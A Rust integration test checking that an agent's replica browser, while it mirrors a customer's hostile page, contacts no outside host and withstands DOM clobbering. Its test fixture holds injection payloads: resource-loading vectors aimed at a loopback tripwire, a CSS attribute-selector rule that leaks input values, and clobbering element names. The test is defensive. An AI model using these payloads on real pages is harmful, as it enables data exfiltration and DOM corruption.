//! Issue 8 items 1 and 2 in Chromium: while the agent views a hostile page,
//! the agent's browser connects to no other host (a listener on another
//! loopback port records every connection and must see none), and clobbering
//! names in the customer's markup cannot break the viewer's DOM building.

use super::stage::{Stage, REPLICA};
use crate::wait_for;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

/// A loopback listener that counts every connection made to it.
async fn tripwire() -> (u16, Arc<AtomicUsize>, Arc<std::sync::Mutex<Vec<String>>>) {
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = l.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let seen = Arc::new(std::sync::Mutex::new(Vec::new()));
    let (h, w) = (hits.clone(), seen.clone());
    tokio::spawn(async move {
        while let Ok((mut sock, _)) = l.accept().await {
            h.fetch_add(1, Ordering::SeqCst);
            let w = w.clone();
            tokio::spawn(async move {
                use tokio::io::AsyncReadExt;
                let mut buf = vec![0u8; 2048];
                let n = sock.read(&mut buf).await.unwrap_or(0);
                let head = String::from_utf8_lossy(&buf[..n]).into_owned();
                if let Ok(mut v) = w.lock() {
                    v.push(head);
                }
            });
        }
    });
    (port, hits, seen)
}

/// Markup naming the tripwire in the ways a page can make a browser fetch.
/// Frames and plugins name no URL here: the *customer's* Chromium connects
/// to an `<iframe src>`/`<object data>` host even where its CSP refuses the
/// load, which would trip the listener for the wrong browser (the agent's
/// replica never gets those URLs: see `relay::inert`).
fn hostile(port: u16) -> String {
    let u = format!("http://127.0.0.1:{port}");
    format!(
        r##"<div id="hostile">
<base href="{u}/base/">
<img src="{u}/img.png"><img src="rel.png"><img srcset="{u}/a.png 1x, {u}/b.png 2x">
<picture><source srcset="{u}/s.webp"><img src="{u}/p.png"></picture>
<video poster="{u}/poster.png"><source src="{u}/v.mp4"></video>
<link rel="stylesheet" href="{u}/x.css"><link rel="prefetch" href="{u}/pf">
<link rel="preload" as="image" href="{u}/pl.png"><link rel="icon" href="{u}/i.ico">
<style>@import url("{u}/imp.css"); .bg {{ background: url({u}/bg.png) }}
@font-face {{ font-family: F; src: url({u}/f.woff) }} .f {{ font-family: F }}
input[value^="a"] {{ background: url({u}/exfil-a) }}</style>
<div class="bg f" style="background-image: url({u}/inline.png)">styled</div>
<input value="abc">
<svg><image href="{u}/svg.png" width="5" height="5"/><use href="{u}/use.svg#x"/>
<image xlink:href="{u}/xlink.png" width="5" height="5"/></svg>
<iframe srcdoc="x"></iframe><object></object><embed>
<table background="{u}/table.png"><tr><td>t</td></tr></table>
<a href="{u}/link" ping="{u}/ping">link</a>
<img name="createElement"><img name="createTextNode"><img name="implementation">
<form id="body" name="head"><input name="setAttribute"><input name="parentNode">
<input name="firstChild"><input name="insertBefore"></form>
<embed name="documentElement"><img id="readyMarker" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
</div>"##
    )
}

#[tokio::test]
async fn agent_browser_contacts_no_other_host_and_clobbering_names_do_not_break_the_replica() {
    let (port, hits, seen) = tripwire().await;
    let s = Stage::new().await;
    s.start_and_join("/demo/").await;
    let html = serde_json::to_string(&hostile(port)).unwrap();
    let _: bool = s
        .customer
        .eval(&format!(
            "document.body.insertAdjacentHTML('beforeend', {html}); return true;"
        ))
        .await;
    wait_for!("the hostile markup in the replica", {
        s.agent
            .try_eval::<bool>(&format!(
                "{REPLICA} return !!d.getElementById('readyMarker');"
            ))
            .await
            .and_then(|ok| if ok { Ok(()) } else { Err("not yet".into()) })
    });
    // Clobbering names are in the replica: later mutations still apply.
    let _: bool = s
        .customer
        .eval(
            "var p = Document.prototype.createElement.call(document, 'p'); \
             p.id = 'afterClobber'; p.textContent = 'still building'; \
             Node.prototype.appendChild.call(document.getElementById('hostile'), p); return true;",
        )
        .await;
    wait_for!("a mutation applied after the clobbering names", {
        s.agent
            .try_eval::<String>(&format!(
                "{REPLICA} var p = d.getElementById('afterClobber'); return p ? p.textContent : '';"
            ))
            .await
            .and_then(|t| {
                if t == "still building" {
                    Ok(())
                } else {
                    Err(t)
                }
            })
    });
    // Every image of the replica has settled (loaded or refused) ...
    wait_for!("the replica's images to settle", {
        s.agent
            .try_eval::<bool>(&format!(
                "{REPLICA} return [].every.call(d.images, function (i) {{ return i.complete; }}) \
                 && d.readyState === 'complete';"
            ))
            .await
            .and_then(|ok| if ok { Ok(()) } else { Err("loading".into()) })
    });
    // ... and the replica holds no script, no working frame or plugin.
    let inert: bool = s
        .agent
        .eval(&format!(
            "{REPLICA} return d.querySelectorAll('script,object,embed,base').length === 0 \
             && [].every.call(d.querySelectorAll('iframe'), function (f) {{ \
                  var sb = f.getAttribute('sandbox'); \
                  return (sb === '' || sb === 'allow-same-origin') && !f.hasAttribute('src'); }});"
        ))
        .await;
    assert!(
        inert,
        "the replica holds script, a plugin, <base> or a live frame"
    );
    let n = hits.load(Ordering::SeqCst);
    if n > 0 {
        wait_for!("the stray request's head", {
            let got = seen.lock().map(|v| v.len()).unwrap_or(0);
            if got >= n {
                Ok(())
            } else {
                Err(format!("{got}"))
            }
        });
    }
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "a browser connected to the other loopback host: {:?}",
        seen.lock().map(|v| v.clone()).unwrap_or_default()
    );
    s.finish().await;
}
